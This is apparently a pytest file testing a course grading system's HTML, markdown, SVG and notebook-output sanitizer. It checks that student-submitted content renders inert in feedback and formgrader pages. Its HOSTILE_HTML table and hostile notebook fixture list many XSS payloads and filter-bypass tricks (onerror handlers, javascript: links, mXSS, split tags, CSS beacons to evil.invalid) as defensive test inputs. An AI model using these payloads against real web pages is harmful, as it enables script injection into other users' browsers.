"""Student content made inert (engine/hardened_grading/preprocessors/inert.py), on in-memory notebooks, in milliseconds.

Hostile payloads, each of which runs a script or sends something when a browser renders it as it stands, go
through what the graded notebook, the feedback page and formgrader's view put them through: ``clean_html``
(``text/html`` outputs), the inert ``markdown2html`` filter (markdown cells and ``text/markdown``), and the
``InertContent`` preprocessor (every output type). Nothing active is left. Honest content (tables, text, math,
code, plots as PNG and as matplotlib's SVG) comes out as it went in, but for the math of markdown, made MathML
(tests/unit/test_feedback_math.py). The pages themselves are rendered as ``generate_feedback`` and formgrader
render them, with this course's ``nbgrader_config.py``: the feedback has no script at all and its policy first;
formgrader's page of a hostile notebook has exactly the scripts of its page of an empty one.
``tests/system/test_inert_browser.py`` opens both in a real browser.
"""

import base64
import copy
import io
import re

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from hardened_grading.exporters.feedback_html import SummaryFirstHTMLExporter
from hardened_grading.preprocessors.inert import FEEDBACK_CSP, InertContent, clean_html, inert_svg, markdown2html
from hardened_grading.nbgrader_app import load_config
from posenc_course.layout import ROOT

from ..helpers.inert_pages import FORMGRADER, NBGRADER_RESOURCES, active_parts, feedback_config, student_parts

#: Raw HTML that runs a script, loads something, navigates, or asks for input when rendered as it stands.
HOSTILE_HTML = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src='https://evil.invalid/x.js'></script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-data": "<img src='data:image/png;base64,iVBORw0KGgo=' onerror=alert(1) onload=alert(2)>",
    "img-remote": "<img src='https://evil.invalid/beacon.png'>",
    "img-api": "<img src='/api/contents/source/posenc/exercises.ipynb'>",
    "javascript-link": "<a href='javascript:alert(1)'>x</a>",
    "javascript-link-entity": "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "javascript-link-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe-src": "<iframe src='/api/contents'></iframe>",
    "svg-onload": "<svg onload=alert(1)><circle r=4 /></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-image-onerror": "<svg><image href=x onerror=alert(1) /></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "noscript-mxss": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "form": "<form action='/api/contents' method=post><input name=a><button formaction='javascript:alert(1)'>go</button></form>",
    "meta-refresh": "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "base": "<base href='https://evil.invalid/'>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='data:text/html,<script>alert(1)</script>'>",
    "link-stylesheet": "<link rel=stylesheet href='https://evil.invalid/x.css'>",
    "style-import": "<style>@import url(https://evil.invalid/x.css); body { background: url(https://evil.invalid/b) }</style>",
    "style-attribute": "<div style=\"background-image: url('https://evil.invalid/b'); position: fixed; top: 0\">x</div>",
    "overlay-class": "<div class='navbar-fixed-top modal in'>fake score: 10 / 10</div>",
    "id-collision": "<input id='ex01_test' class='score'>",
    "template": "<template><script>alert(1)</script></template>",
    "split-tag": "<scr<script>ipt>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "textarea-breakout": "<textarea></textarea><script>alert(1)</script></textarea>",
    "target-blank": "<a href='https://example.org' target=_blank>x</a>",
}
@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
def test_hostile_html_is_left_with_nothing_active(payload):
    cleaned = clean_html(payload)
    assert active_parts(cleaned) == [], cleaned
    assert not re.search(r"<\s*(script|iframe|svg|math|object|embed|meta|base|form|input|style|link)\b", cleaned, re.I)
    assert clean_html(cleaned) == cleaned  # as it is cleaned again when a page is made of it


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
def test_hostile_markdown_renders_with_nothing_active(payload):
    source = f"Some *text* before.\n\n{payload}\n\nand [a link](javascript:alert(1)) after {payload}"
    rendered = markdown2html({}, source)
    assert active_parts(rendered) == [], rendered


def test_a_removed_element_says_so_and_text_stays_text():
    assert clean_html("<b>kept</b><script>alert(1)</script>") == "<b>kept</b>[script removed]"
    assert clean_html("<form><b>x</b></form>") == "&lt;form&gt;<b>x</b>&lt;/form&gt;"  # shown, not obeyed
    assert "[image removed" in clean_html("<img src=https://evil.invalid/beacon.png>")


#: Honest HTML that must come out the same: a table as pandas writes it (its <style> goes), formatting, an image.
HONEST_TABLE = ('<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>scheme</th>'
                '</tr></thead><tbody><tr><th>0</th><td>RoPE</td></tr></tbody></table>')
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HONEST_HTML = [
    HONEST_TABLE,
    '<p>Some <b>bold</b>, <i>italic</i>, <code>code</code>, <sub>1</sub><sup>2</sup> and a '
    '<a href="https://example.org">link</a>.</p>',
    '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><pre>x &lt; y</pre>',
    f'<img alt="a pixel" src="data:image/png;base64,{PIXEL}" width="10">',
    '<details open><summary>more</summary><div style="color: red;">red</div></details>',
    '<h2>Title</h2><blockquote>quoted</blockquote><hr><span class="k">def</span>',
]


@pytest.mark.parametrize("honest", HONEST_HTML)
def test_honest_html_comes_out_the_same(honest):
    assert clean_html(honest) == honest
    assert clean_html(f'<div><style scoped>.dataframe tbody tr th {{ vertical-align: top; }}</style>{honest}</div>') \
        == f"<div>{honest}</div>"


def test_honest_markdown_keeps_its_math_code_tables_and_links():
    source = ("# Title\n\nSome **bold**, math $x < y$ and $$\\sum_k \\sin(\\omega_k t)$$, a [link](https://example.org)"
              " and `code`.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```python\ndef f(x):\n    return x < 1\n```\n")
    rendered = markdown2html({}, source)
    soup = BeautifulSoup(rendered, "html.parser")
    assert soup.find("h1") and soup.find("strong") and soup.find("table") and soup.find("code")
    assert soup.find("a", href="https://example.org")
    assert [math["display"] for math in soup.find_all("math")] == ["inline", "block"]  # math made MathML
    assert "$x &lt; y$" not in rendered and "\\sum_k" not in rendered and soup.find("mo", string="<")
    assert soup.find("span", class_="k")  # pygments' highlighting of the code block


def matplotlib_svg():
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1))
    ax.plot([0, 1, 2], [0, 1, 0], marker="o")
    ax.set_title("$\\sin$")
    out = io.StringIO()
    fig.savefig(out, format="svg")
    plt.close(fig)
    return out.getvalue()


def test_an_honest_svg_is_kept_and_an_active_one_is_not():
    honest = matplotlib_svg()
    assert inert_svg(honest) == honest
    svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{}</svg>"
    for active in ["<script>alert(1)</script>", "<circle onload='alert(1)'/>", "<foreignObject><p>x</p></foreignObject>",
                   "<a xlink:href='javascript:alert(1)'><text>x</text></a>", "<image href='https://evil.invalid/b'/>",
                   "<use href='data:image/svg+xml,x#a'/>", "<style>@import url(https://evil.invalid/x.css);</style>",
                   "<rect style='fill: url(https://evil.invalid/p)'/>",
                   "<set attributeName='href' to='javascript:alert(1)'/>"]:
        assert inert_svg(svg.format(active)) is None, active
    assert inert_svg("<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>") is None
    assert inert_svg("<html><script>alert(1)</script></html>") is None
    assert inert_svg("not xml <") is None


def hostile_notebook():
    """A notebook with an output of every type that can carry a script, and the honest ones beside them."""
    png = base64.b64encode(base64.b64decode(PIXEL)).decode()
    outputs = [
        new_output("display_data", data={"text/html": HOSTILE_HTML["img-onerror"], "text/plain": "html"}),
        new_output("display_data", data={"text/html": HOSTILE_HTML["script"]}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"application/javascript": "alert(1)", "text/plain": "<Javascript>"}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
        new_output("display_data", data={"text/markdown": "md <img src=x onerror=alert(1)> **bold**"}),
        new_output("display_data", data={"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
                                         "text/plain": "<SVG>"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "0"},
                                         "text/plain": "a widget"}),
        new_output("display_data", data={"application/vnd.plotly.v1+json": {"data": []}, "text/html": "<b>plot</b>"}),
        new_output("display_data", data={"text/vnd.mermaid": "graph TD; A-->B"}),
        new_output("display_data", data={"image/png": png}, metadata={"filenames": {"image/png": "javascript:alert(1)"},
                                                                        "image/png": {"width": 10, "onload": "x"}}),
        new_output("execute_result", data={"text/html": HONEST_TABLE, "text/plain": "table"}, execution_count=1),
        new_output("display_data", data={"text/latex": "$\\sin x$", "text/plain": "sin"}),
        new_output("stream", name="stdout", text="<script>alert(1)</script> printed\n"),
        new_output("error", ename="ValueError", evalue="<script>alert(1)</script>", traceback=["<b>tb</b>"]),
    ]
    notebook = new_notebook(cells=[new_markdown_cell("hostile <script>alert(1)</script> $x<y$"),
                                   new_code_cell("x = 1", outputs=outputs)])
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return notebook


def test_inert_content_keeps_passive_outputs_cleans_html_and_drops_the_rest():
    notebook = hostile_notebook()
    before = copy.deepcopy(notebook)
    processed, _ = InertContent().preprocess(notebook, {})
    outputs = processed.cells[1].outputs
    data = [dict(output.get("data", {})) for output in outputs]
    assert "widgets" not in processed.metadata
    assert data[0] == {"text/html": "[image removed: not embedded in the notebook]", "text/plain": "html"}
    assert data[1] == {"text/html": "[script removed]"} and outputs[1].metadata == {}  # no isolated iframe either
    assert data[2] == {"text/plain": "<Javascript>"}  # its own text, the script gone
    assert data[3] == {"text/plain": "[application/javascript output removed: it could run code where the notebook "
                                     "is viewed]"}
    assert set(data[4]) == {"text/html"} and active_parts(data[4]["text/html"]) == [] and "<strong>bold" in data[4]["text/html"]
    assert data[5] == {"text/plain": "<SVG>"}
    assert data[6] == {"text/plain": "a widget"}
    assert data[7] == {"text/html": "<b>plot</b>"}
    assert list(data[8]) == ["text/plain"] and "text/vnd.mermaid" in data[8]["text/plain"]
    assert data[9] == dict(before.cells[1].outputs[9].data) and outputs[9].metadata == {"image/png": {"width": 10}}
    for index in (10, 11, 12, 13):  # honest HTML, LaTeX, a stream, an error: as they were
        assert outputs[index] == before.cells[1].outputs[index]
    assert processed.cells[0] == before.cells[0]  # markdown is cleaned when it is rendered, and kept as written


def test_an_execution_count_the_kernel_made_up_is_not_printed():
    """The kernel reports execution counts, and the templates print them raw ("In [...]")."""
    result = new_output("execute_result", data={"text/plain": "1"}, execution_count=1)
    result["execution_count"] = "<img src=x onerror=alert(1)>"
    cell = new_code_cell("x")
    cell.outputs, cell.execution_count = [result], "<script>alert(1)</script>"
    notebook = new_notebook()
    notebook.cells = [cell]  # nbformat refuses such counts when it makes a notebook; a kernel sends them all the same
    processed, _ = InertContent().preprocess(notebook, {})
    assert processed.cells[0].execution_count is None and processed.cells[0].outputs[0].execution_count is None
    page, _ = SummaryFirstHTMLExporter(config=feedback_config()).from_notebook_node(
        processed, resources=copy.deepcopy(NBGRADER_RESOURCES))
    assert "<script" not in page and "onerror" not in page
    honest = new_notebook(cells=[new_code_cell("x", execution_count=3)])
    assert InertContent().preprocess(honest, {})[0].cells[0].execution_count == 3


def test_a_raw_html_cell_is_cleaned_by_nbconvert_itself():
    notebook = new_notebook(cells=[nbformat.v4.new_raw_cell("<script>alert(1)</script><img src=x onerror=alert(1)>",
                                                            metadata={"raw_mimetype": "text/html"})])
    for page in (formgrader_page(notebook, load_config(ROOT)),
                 SummaryFirstHTMLExporter(config=feedback_config()).from_notebook_node(
                     notebook, resources=copy.deepcopy(NBGRADER_RESOURCES))[0]):
        assert "&lt;script&gt;alert(1)" in page and not re.search(r"<script>alert|<img[^>]*onerror", page)


def test_deep_or_long_html_costs_no_more_than_its_length():
    """bleach's parser slows with the square of the nesting (50,000 nested divs took 85 s): deep HTML is shown as
    its source, at once; so is markdown too long to render."""
    import time

    started = time.monotonic()
    deep = clean_html("<div>" * 50_000 + "<script>alert(1)</script>" + "</div>" * 50_000)
    assert time.monotonic() - started < 10
    assert deep.startswith("<p>[HTML nested more than") and active_parts(deep) == []
    assert clean_html("<div>" * 50 + "x" + "</div>" * 50) == "<div>" * 50 + "x" + "</div>" * 50  # honest nesting
    long = markdown2html({}, "<script>alert(1)</script>" * 50_000)
    assert long.startswith("<p>[markdown beyond") and active_parts(long) == []
    page = {"resources": {}}  # what one page renders counts together: five cells of 200,000 characters, not six
    for _ in range(5):
        assert "[markdown beyond" not in markdown2html(page, "word " * 40_000)
    assert markdown2html(page, "word " * 40_000).startswith("<p>[markdown beyond 0 characters")


def test_html_beyond_the_notebooks_budget_keeps_only_its_text():
    outputs = [new_output("display_data", data={"text/html": f"<b>{n}</b>" + "x" * 600, "text/plain": f"plain {n}"})
               for n in range(3)]
    notebook = new_notebook(cells=[new_code_cell("x", outputs=outputs)])
    processed, _ = InertContent(max_html_kb=1).preprocess(notebook, {})
    data = [dict(output.data) for output in processed.cells[0].outputs]
    assert data[0]["text/html"].startswith("<b>0</b>") and data[1] == {"text/plain": "plain 1"} \
        and data[2] == {"text/plain": "plain 2"}
    again, _ = InertContent(max_html_kb=1).preprocess(new_notebook(cells=[new_code_cell("x", outputs=[
        new_output("display_data", data={"text/html": "y" * 2000})])]), {})
    assert again.cells[0].outputs[0].data == {"text/plain": "[text/html output not shown: the notebook's outputs hold "
                                                            "more than InertContent.max_html_kb = 1 KiB of HTML]"}


def test_inert_content_is_idempotent():
    once, _ = InertContent().preprocess(hostile_notebook(), {})
    twice, _ = InertContent().preprocess(copy.deepcopy(once), {})
    assert twice == once


def test_the_feedback_page_has_no_script_and_its_policy_first():
    page, _ = SummaryFirstHTMLExporter(config=feedback_config()).from_notebook_node(
        hostile_notebook(), resources=copy.deepcopy(NBGRADER_RESOURCES))
    assert not re.search(r"<script", page, re.I)
    head = BeautifulSoup(page, "html.parser").find("head")
    first = head.find(True)
    assert first.name == "meta" and first.get("http-equiv") == "Content-Security-Policy" \
        and first.get("content") == FEEDBACK_CSP
    assert "script-src 'none'" in FEEDBACK_CSP and "default-src 'none'" in FEEDBACK_CSP
    assert BeautifulSoup(student_parts(page), "html.parser").find("math") and "$x&lt;y$" not in page  # MathML
    assert active_parts(student_parts(page), mathml=True) == [] and "[script removed]" in student_parts(page)


def formgrader_page(notebook, config):
    """formgrader's page of `notebook`, as its SubmissionHandler renders it with the course's configuration."""
    config = copy.deepcopy(config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    resources = {"assignment_id": "posenc", "notebook_id": "exercises", "submission_id": "abc", "index": 0,
                 "total": 1, "base_url": "", "student": "s", "last_name": "S", "first_name": "S",
                 "notebook_path": "autograded/s/posenc/exercises.ipynb"}
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)
    return page


def scripts(page):
    return [str(script) for script in BeautifulSoup(page, "html.parser").find_all("script")]


def test_formgraders_page_of_a_hostile_notebook_has_only_its_own_scripts():
    """With the course's nbgrader_config.py (HTMLExporter.preprocessors and filters): the page of a hostile
    notebook that was never cleaned (graded before, or elsewhere) has the same scripts as that of an empty one,
    and nothing active in what the student made."""
    config = load_config(ROOT)
    hostile = formgrader_page(hostile_notebook(), config)
    assert scripts(hostile) == scripts(formgrader_page(new_notebook(), config)) and scripts(hostile)
    assert active_parts(student_parts(hostile), mathml=True) == [] and "[script removed]" in student_parts(hostile)


def test_the_course_cleans_the_graded_notebook_right_after_running_it():
    config = load_config(ROOT)
    steps = list(config.Autograde.autograde_preprocessors)
    assert steps.index("hardened_grading.preprocessors.inert.InertContent") == steps.index("hardened_grading.preprocessors.execute.ResilientExecute") + 1
    assert "hardened_grading.preprocessors.inert.InertContent" in config.HTMLExporter.preprocessors
    assert config.HTMLExporter.filters["markdown2html"] == "hardened_grading.preprocessors.inert.markdown2html"


def test_the_courses_own_markdown_renders_the_same_text_and_tags():
    """The inert filter renders the release's markdown too (a page cannot tell the release's cells from the
    student's): every markdown cell of the course's released notebooks keeps its text and its tags, but for its
    formulas, MathML here (tests/unit/test_feedback_math.py), left out of both."""
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    class NoMath(IPythonRenderer):
        def block_math(self, body):
            return ""

        inline_math = block_math

        def latex_environment(self, name, body):
            return ""

    def text_and_tags(rendered):
        soup = BeautifulSoup(rendered, "html.parser")
        for math in soup.find_all("math"):
            math.decompose()
        return " ".join(soup.get_text().split()), sorted(tag.name for tag in soup.find_all(True))

    notebooks = sorted((ROOT / "release").glob("*/*.ipynb"))
    assert len(notebooks) >= 4
    for path in notebooks:
        for cell in nbformat.read(str(path), as_version=4).cells:
            if cell.cell_type == "markdown":
                stock = MarkdownWithMath(renderer=NoMath(escape=False)).render(cell.source)
                assert text_and_tags(markdown2html({}, cell.source)) == text_and_tags(stock), (path, cell.source[:200])
